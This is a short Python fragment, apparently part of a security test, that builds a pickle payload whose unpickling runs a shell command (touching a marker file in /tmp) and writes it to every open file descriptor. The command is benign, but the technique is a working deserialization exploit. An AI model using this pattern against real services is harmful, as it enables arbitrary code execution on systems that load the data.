"""Answers with, and sends, pickles that run a command wherever they are loaded."""

AT_IMPORT = r"""
import ctypes, os, pickle, struct

class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/pickle-@PORT@",)

def payload():
    data = pickle.dumps(Payload())
    for fd in range(1, 256):
        try:
            os.write(fd, struct.pack("<Q", len(data)) + data)
        except OSError:
            pass
    return Payload()
"""
RETURNS = "payload()"
